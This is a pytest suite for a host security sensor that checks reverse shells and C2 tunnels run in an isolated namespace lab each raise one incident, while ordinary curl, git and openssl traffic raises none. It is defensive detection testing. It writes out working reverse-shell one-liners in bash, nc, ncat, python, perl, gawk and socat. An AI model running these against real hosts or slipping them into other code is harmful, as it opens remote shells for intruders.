"""Reverse shells and C2 in the netns lab: each gives exactly one incident with the right destination;
ordinary network use gives none. Traffic stays between the lab's victim and attacker namespaces."""

from __future__ import annotations

import stat
import sys
import textwrap

import pytest

from tests.helpers.alerts import incidents, mine, tagged
from tests.helpers.proof import assert_sensor_saw

SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"


def attack(
    sensorlab, netlab, command: str, *, family: int = 4, payload: bytes = SHELL_PAYLOAD, expect_output: bool = True
) -> tuple[list[dict], int, str]:
    """Run ``command`` (with {host} and {port}) from bash in the victim namespace against a listener."""
    port = netlab.port()
    host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
    listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=10)
    mark = sensorlab.alert_mark()
    # "; exit" keeps bash as the parent (a lone command would be exec'd in place of bash).
    netlab.run(netlab.victim_ns, ["bash", "-c", command.format(host=host, port=port) + "; exit 0"], timeout=15)
    received = listener.wait(timeout=15)
    if expect_output:
        assert b"cw-42" in received, received
    return sensorlab.alerts_since(mark), port, host


def assert_one_incident(alerts: list[dict], host: str, port: int, signal: str) -> dict:
    groups = incidents(alerts)
    assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
    lines = next(iter(groups.values()))
    last = lines[-1]
    assert last["destination"] == {"ip": host, "port": port}
    assert signal in last["chainwatch"]["signals"]
    assert last["event"]["severity"] in (47, 73, 99)
    assert len(lines) <= 3  # updates, never a storm
    return last


@pytest.mark.parametrize("family", [4, 6])
def test_bash_dev_tcp(sensorlab, netlab, family) -> None:
    """`bash -i >& /dev/tcp/...` over IPv4 and IPv6 gives one incident (Sigma shell connect + stdio to socket)."""
    alerts, port, host = attack(sensorlab, netlab, "bash -i >& /dev/tcp/{host}/{port} 0>&1", family=family)
    last = assert_one_incident(alerts, host, port, "shell_network_connection")
    assert "stdio_to_socket" in last["chainwatch"]["signals"]
    assert last["process"]["executable"].endswith("/bash")


def test_traditional_nc_e(sensorlab, netlab) -> None:
    """Traditional `nc -e /bin/sh` gives one incident."""
    alerts, port, host = attack(sensorlab, netlab, "/bin/nc.traditional -e /bin/sh {host} {port}")
    assert_one_incident(alerts, host, port, "stdio_to_socket")


def test_ncat_sh_exec(sensorlab, netlab) -> None:
    """`ncat --sh-exec` gives one incident (interpreter rule on ncat, stdio to socket in its child)."""
    alerts, port, host = attack(sensorlab, netlab, "ncat --sh-exec /bin/sh {host} {port}")
    assert_one_incident(alerts, host, port, "interpreter_reverse_shell")


def test_python_pty_spawn(sensorlab, netlab) -> None:
    """python pty.spawn reverse shell gives one incident."""
    code = (
        'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
    )
    alerts, port, host = attack(sensorlab, netlab, f"python3 -c '{code}'")
    last = assert_one_incident(alerts, host, port, "interpreter_reverse_shell")
    assert "stdio_to_socket" in last["chainwatch"]["signals"]


def test_python_subprocess_socket_stdio(sensorlab, netlab) -> None:
    """python subprocess with the socket as the shell's stdio gives one incident (parent and child merged)."""
    code = (
        'import socket,subprocess;s=socket.socket();s.connect(("{host}",{port}));'
        'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'
    )
    alerts, port, host = attack(sensorlab, netlab, f"python3 -c '{code}'")
    assert_one_incident(alerts, host, port, "interpreter_reverse_shell")


def test_perl_socket_shell(sensorlab, netlab) -> None:
    """A perl socket reverse shell gives one incident."""
    code = (
        'use Socket;$i="{host}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");}};'
    )
    alerts, port, host = attack(sensorlab, netlab, f"perl -e '{code}'")
    assert_one_incident(alerts, host, port, "interpreter_reverse_shell")


def test_awk_inet_tcp(sensorlab, netlab) -> None:
    """gawk /inet/tcp reverse shell gives one incident."""
    prog = (
        'BEGIN {{s = "/inet/tcp/0/{host}/{port}"; if ((s |& getline c) > 0) '
        "{{ while ((c | getline line) > 0) print line |& s; close(c) }}; close(s)}}"
    )
    alerts, port, host = attack(sensorlab, netlab, f"gawk '{prog}'", payload=b"echo cw-42\n")
    assert_one_incident(alerts, host, port, "interpreter_reverse_shell")


def test_socat_exec(sensorlab, netlab) -> None:
    """socat TCP:... EXEC:/bin/sh gives one incident that names the destination."""
    alerts, port, host = attack(sensorlab, netlab, "socat TCP:{host}:{port} EXEC:/bin/sh")
    assert_one_incident(alerts, host, port, "tunnel_tool")


def test_tunnel_tool_by_name_and_argv(sensorlab, netlab, tmp_path) -> None:
    """A program installed as `chisel` run as `chisel client HOST:PORT R:...` gives one tunnel incident."""
    chisel = tmp_path / "chisel"
    chisel.write_text(
        textwrap.dedent(f"""\
        #!{sys.executable}
        import socket, sys
        host, port = sys.argv[2].rsplit(":", 1)
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(b"cw-42 tunnel up")
        s.close()
    """)
    )
    chisel.chmod(chisel.stat().st_mode | stat.S_IEXEC)
    alerts, port, host = attack(sensorlab, netlab, f"{chisel} client {{host}}:{{port}} R:socks", payload=b"")
    assert_one_incident(alerts, host, port, "tunnel_tool")


# ------------------------------------------------------------------ benign: no reverse-shell or C2 alert


def benign(sensorlab, netlab, command: str, *, server: list[str] | None = None, port: int | None = None) -> list:
    """Run ``command`` ({host}, {port}) from bash in the victim against a server; prove the sensor saw that bash
    and its connect; return the alerts since of that bash and its children (the sensor is host-wide)."""
    port = port or netlab.port()
    if server:
        netlab.spawn(netlab.attacker_ns, [a.format(host=netlab.attacker_ip4, port=port) for a in server])
        ready = (
            "import socket,sys,time\nfor _ in range(50):\n    try:\n        socket.create_connection("
            f"('{netlab.attacker_ip4}', {port}), timeout=1).close(); sys.exit(0)\n"
            "    except OSError:\n        time.sleep(0.1)\nsys.exit(1)"
        )
        netlab.run(netlab.attacker_ns, [sys.executable, "-c", ready], check=True)
    else:
        netlab.listen_tcp(netlab.attacker_ns, port, duration=10, max_conns=5)
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(command.format(host=netlab.attacker_ip4, port=port) + "; exit 0")
    netlab.run(netlab.victim_ns, ["bash", "-c", command], timeout=20)
    assert_sensor_saw(sensorlab, emark, exe="bash", argv_has=token, port=port)
    return mine(sensorlab.alerts_since(mark), token)


HTTP_SERVER = [sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]


def test_benign_curl_and_wget_from_bash_script(sensorlab, netlab) -> None:
    """curl and wget to the test host from a bash script raise nothing."""
    assert (
        benign(
            sensorlab,
            netlab,
            "curl -s -m 5 http://{host}:{port}/ >/dev/null; wget -q -T 5 -O /dev/null http://{host}:{port}/",
            server=HTTP_SERVER,
        )
        == []
    )


def test_benign_openssl_certificate_check(sensorlab, netlab) -> None:
    """`openssl s_client -connect ... </dev/null` as a certificate check raises nothing."""
    assert (
        benign(sensorlab, netlab, "timeout 5 openssl s_client -connect {host}:{port} </dev/null >/dev/null 2>&1") == []
    )


def test_benign_nc_z_port_check(sensorlab, netlab) -> None:
    """`nc -z` port checks raise nothing."""
    assert benign(sensorlab, netlab, "nc.traditional -z -w 3 {host} {port}; ncat -z -w 3 {host} {port}") == []


def test_benign_loopback_dev_tcp_health_check(sensorlab, netlab) -> None:
    """A loopback /dev/tcp health check from bash raises nothing."""
    port = netlab.port()
    netlab.listen_tcp(netlab.victim_ns, port, duration=10, bind="127.0.0.1")
    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
    command, token = tagged(f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo ok >&3; exit 0")
    netlab.run(netlab.victim_ns, ["bash", "-c", command])
    # Loopback connects are dropped in the kernel (SKIP_LOOPBACK): the shell's exec is the proof it ran.
    assert_sensor_saw(sensorlab, emark, exe="bash", argv_has=token)
    assert mine(sensorlab.alerts_since(mark), token) == []


def test_benign_git_over_http(sensorlab, netlab) -> None:
    """git over http to a test server raises nothing."""
    assert (
        benign(
            sensorlab,
            netlab,
            "GIT_TERMINAL_PROMPT=0 timeout 10 git ls-remote http://{host}:{port}/repo.git >/dev/null 2>&1",
            server=HTTP_SERVER,
        )
        == []
    )


def test_benign_python_http_client(sensorlab, netlab) -> None:
    """A python HTTP client raises nothing."""
    code = "import urllib.request; urllib.request.urlopen('http://{host}:{port}/', timeout=5).read()"
    assert benign(sensorlab, netlab, f'python3 -c "{code}"', server=HTTP_SERVER) == []
